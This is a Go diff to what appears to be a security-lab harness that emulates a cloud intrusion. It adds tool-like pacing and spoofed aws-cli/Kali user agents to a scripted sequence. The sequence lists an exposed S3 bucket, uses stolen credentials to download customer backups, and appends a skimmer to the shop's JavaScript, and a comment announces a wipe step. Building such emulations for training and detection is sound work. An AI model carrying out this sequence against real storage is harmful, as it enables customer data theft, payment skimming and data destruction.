@@ -61,6 +61,7 @@ func openUsers(ctx context.Context, env labkit.Env) error {
 	for labkit.Sleep(ctx, 20*time.Second) {
 		_, _ = anon.S3("GET", "/acme-www/index.html", nil)
 		_, _ = anon.S3("GET", "/acme-www/style.css", nil)
+		_, _ = anon.S3("GET", "/acme-www/js/shop.js", nil)
 		_, _ = labkit.Get(hc, env("DB")+"/customers/_search", "acme-shop/3.2")
 	}
 	return nil
@@ -70,14 +71,15 @@ func openIntruder(ctx context.Context, env labkit.Env) error {
 	if !labkit.Sleep(ctx, labkit.Duration(env, "DELAY", 30*time.Second)) {
 		return nil
 	}
-	if err := openOnce(env); err != nil {
+	if err := openOnce(ctx, env); err != nil {
 		labkit.Logger.Info("intruder: run ended early", "err", err)
 	}
 	<-ctx.Done()
 	return nil
 }
 
-func openOnce(env labkit.Env) error {
+func openOnce(ctx context.Context, env labkit.Env) error {
+	pause := func() { labkit.Sleep(ctx, 700*time.Millisecond) } // a tool's pace, not all in one second
 	anon := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.ls"}
 	if _, err := anon.S3("GET", "/acme-www?list-type=2", nil); err != nil {
 		return err
@@ -98,16 +100,24 @@ func openOnce(env labkit.Env) error {
 		return err
 	}
 	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.cp"}
+	pause()
 	_, _ = c.Query("sts", "GetCallerIdentity", nil)
+	pause()
 	_, _ = c.S3("GET", "/acme-www?list-type=2", nil)
+	pause()
 	_, _ = c.S3("GET", "/acme-customer-backups?list-type=2", nil)
 	for _, key := range stolenBackups {
+		pause()
 		_, _ = c.S3("GET", "/acme-customer-backups/"+key, nil)
 	}
+	pause()
 	// The skimmer: the site's script read as any visitor reads it, and
 	// written back with a line more, with the deploy key.
 	if script, err := anon.S3("GET", "/acme-www/js/shop.js", nil); err == nil && script.OK() {
+		pause()
+		c.Header = http.Header{"Content-Type": {"application/javascript"}} // as the CLI guesses from the name
 		_, _ = c.S3("PUT", "/acme-www/js/shop.js", append(script.Body, skimmer...))
+		c.Header = nil
 	}
 
 	// The wipe: read, delete, and leave the note where the data was.
